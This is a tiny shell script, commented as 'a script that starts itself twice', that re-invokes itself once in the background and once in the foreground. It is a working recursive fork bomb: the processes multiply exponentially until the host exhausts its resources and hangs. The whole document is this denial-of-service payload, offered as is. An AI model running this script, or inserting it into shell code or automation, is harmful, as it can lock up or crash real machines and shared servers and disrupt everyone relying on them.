# A script that starts itself twice.
sh "$0" &
sh "$0"
